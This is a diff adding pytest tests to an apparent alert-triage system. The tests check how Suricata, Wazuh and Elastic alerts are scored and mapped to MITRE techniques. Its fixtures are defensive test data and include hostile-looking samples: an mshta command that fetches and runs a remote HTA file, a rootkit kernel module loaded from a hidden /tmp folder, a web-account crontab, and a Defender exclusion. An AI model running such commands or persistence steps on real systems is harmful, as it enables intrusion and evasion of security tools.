@@ -1184,3 +1184,100 @@ def test_a_planned_change_that_names_the_scanner_s_address_explains_its_scan(des
     record["flow"] = {**record.get("flow", {}), "src_ip": "172.16.0.25", "dest_ip": "172.16.9.14"}
     threat, = factories.ingest_records("suricata", [record], customer)
     assert (threat.severity == "LOW") is explained
+
+
+def _eve(signature, category, src, dst, severity=2):
+    line = (Path(__file__).parent / "fixtures" / "alerts" / "suricata_eve.ndjson").read_text().splitlines()[1]
+    record = json.loads(line)
+    record["alert"].update(signature=signature, category=category, severity=severity, metadata={})
+    record.update(src_ip=src, dest_ip=dst)
+    record["flow"] = {**record.get("flow", {}), "src_ip": src, "dest_ip": dst}
+    return record
+
+
+@pytest.mark.parametrize("signature,band,call", [
+    ("ET INFO Outgoing Basic Auth Base64 HTTP Password detected unencrypted", "MEDIUM", "likely_real_threat"),
+    ("GPL TELNET Bad Login", "LOW", None),
+])
+def test_what_a_signature_says_happened_whatever_its_category(signature, band, call):
+    threat, = _ingest("suricata", _eve(signature, "Potentially Bad Traffic", "10.40.50.14", "203.0.113.210"))
+    assert threat.severity == band
+    if call:
+        assert threat.false_positive["recommendation"] == call  # a credential in the clear is never routine
+
+
+def test_an_internal_host_throwing_an_exploit_at_another_is_compromised():
+    threat, = _ingest("suricata", _eve("ET EXPLOIT Possible ETERNALBLUE Probe MS17-010 (MSF style)",
+                                       "Attempted Administrator Privilege Gain", "10.20.7.33", "10.20.1.5", severity=1))
+    assert threat.severity == "HIGH"
+
+
+def _auditd(ref, rule_id, description, audit):
+    return {"timestamp": "2026-12-02T03:11:00.000+0000", "id": ref, "agent": {"id": "6", "name": "lms-web-02"},
+            "rule": {"level": 3, "id": rule_id, "description": description, "groups": ["audit", "audit_command"]},
+            "data": {"audit": audit}}
+
+
+@pytest.mark.parametrize("module,band", [("/tmp/.ICE-unix/.x/diamorphine.ko", "HIGH"),
+                                         ("/lib/modules/6.1.0-27-amd64/kernel/net/wireguard.ko", "LOW")])
+def test_a_kernel_module_loaded_from_a_user_folder(module, band):
+    threat, = _ingest("wazuh", _auditd(f"1.{len(module)}", "80792", "Audit: Command: /usr/bin/kmod.",
+                                       {"type": "EXECVE", "command": "insmod", "exe": "/usr/bin/kmod", "cwd": "/root",
+                                        "execve": {"a0": "insmod", "a1": module}}))
+    assert threat.observables["command_line"] == f"insmod {module}"
+    assert threat.severity == band
+    assert ("T1547.006" in _techniques(threat)) is (band == "HIGH")
+
+
+def test_a_crontab_written_for_the_web_server_s_account_is_high():
+    threat, = _ingest("wazuh", _auditd("1.cron", "80781", "Audit: Watch - Write access: /var/spool/cron/crontabs/www-data.",
+                                       {"type": "SYSCALL", "command": "crontab", "exe": "/usr/bin/crontab", "uid": "33",
+                                        "cwd": "/var/www/html/wp-content/uploads",
+                                        "file": {"name": "/var/spool/cron/crontabs/www-data"}}))
+    assert threat.severity == "HIGH"
+
+
+@pytest.mark.parametrize("new_value,shown", [
+    ("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\D:\\Backups = 0x0", True),
+    ("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\ScheduleTime = 0x78", False),
+])
+def test_a_defender_configuration_change_adding_an_exclusion_blinds_it(new_value, shown):
+    alert = {"timestamp": "2026-11-19T14:03:33.000+0000", "id": f"1.5007{shown}", "agent": {"id": "9", "name": "bkp-01"},
+             "rule": {"level": 5, "id": "62154", "description": "Windows Defender: Antimalware platform feature configuration changed",
+                      "groups": ["windows", "windows_defender"]},
+             "data": {"win": {"system": {"providerName": "Microsoft-Windows-Windows Defender", "eventID": "5007",
+                                         "message": f"\"Microsoft Defender Antivirus Configuration has changed.\r\n \tOld value: \r\n \tNew value: {new_value}\""}}}}
+    threat, = _ingest("wazuh", alert)
+    assert ("security_tool_disabled" in [b["name"] for b in threat.signal["behaviours"]]) is shown
+
+
+@pytest.mark.parametrize("parent,techniques", [
+    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", {"T1566.001", "T1204.002"}),
+    ("C:\\Windows\\explorer.exe", set()),
+])
+def test_a_script_host_started_by_an_office_document_is_an_attachment_running_code(parent, techniques):
+    threat, = _ingest("wazuh", _sysmon_process(f"1.office{len(parent)}", "C:\\Windows\\System32\\mshta.exe",
+                                               "mshta.exe http://198.51.100.7/inv.hta", parent))
+    assert techniques <= set(_techniques(threat)) and (bool(techniques) or "T1566.001" not in _techniques(threat))
+
+
+def test_a_kernel_module_from_a_hidden_folder_is_a_rootkit():
+    threat, = _ingest("wazuh", _auditd("1.rootkit", "80792", "Audit: Command: /usr/bin/kmod.",
+                                       {"type": "EXECVE", "command": "insmod", "exe": "/usr/bin/kmod",
+                                        "execve": {"a0": "insmod", "a1": "/tmp/.ICE-unix/.x/diamorphine.ko"}}))
+    assert {"T1547.006", "T1014"} <= set(_techniques(threat))
+
+
+@pytest.mark.parametrize("name,hidden", [(".com.apple.sysupdated.plist", True), ("com.vendor.updater.plist", False)])
+def test_an_autostart_file_that_hides_its_own_name(name, hidden):
+    alert = _elastic(f"la-{name}", "Persistence via Launch Agent", "T1543.001", "medium",
+                     event={"kind": "signal", "category": ["file"], "type": ["creation"]}, host={"name": "mac-17"},
+                     file={"path": f"/Users/a.novak/Library/LaunchAgents/{name}", "name": name})
+    threat, = _ingest("ecs", alert)
+    assert ("T1564.001" in _techniques(threat)) is hidden
+
+
+@pytest.mark.parametrize("src,technique", [("203.0.113.88", "T1110.001"), ("10.30.2.9", None)])
+def test_an_outsider_s_failed_login_is_a_password_guess(src, technique):
+    threat, = _ingest("suricata", _eve("GPL TELNET Bad Login", "Potentially Bad Traffic", src, "10.30.40.8"))
+    assert ("T1110.001" in _techniques(threat)) is (technique is not None)
